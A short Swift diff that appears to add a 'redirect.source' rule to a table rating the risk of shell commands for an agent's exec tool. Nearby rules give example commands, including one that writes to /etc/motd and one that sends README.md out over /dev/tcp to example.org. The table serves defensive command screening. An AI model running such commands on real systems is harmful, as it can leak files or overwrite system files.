@@ -169,6 +169,9 @@ extension CommandRule {
         .structure(
             "redirect.project", .medium, "writes a file in the project or a temporary folder", "droid-exec.md §3.5.5", "ls > out.txt"),
         .structure("redirect.outside", .high, "writes a file outside of the project", "droid-exec.md §3.5.5", "ls > /etc/motd"),
+        .structure(
+            "redirect.source", .high, "reads what is not known before running, and may be a connection", "droid-exec.md §3.5.5",
+            "x=$(cat name); cat < \"$x\""),
         .structure("redirect.unknown", .high, "writes a file that is not known before running", "droid-exec.md §3.5.5", "ls > $FILE"),
         .structure(
             "redirect.network", .high, "opens a connection", "droid-exec.md §3.6 H transfer", "cat README.md > /dev/tcp/example.org/80"),
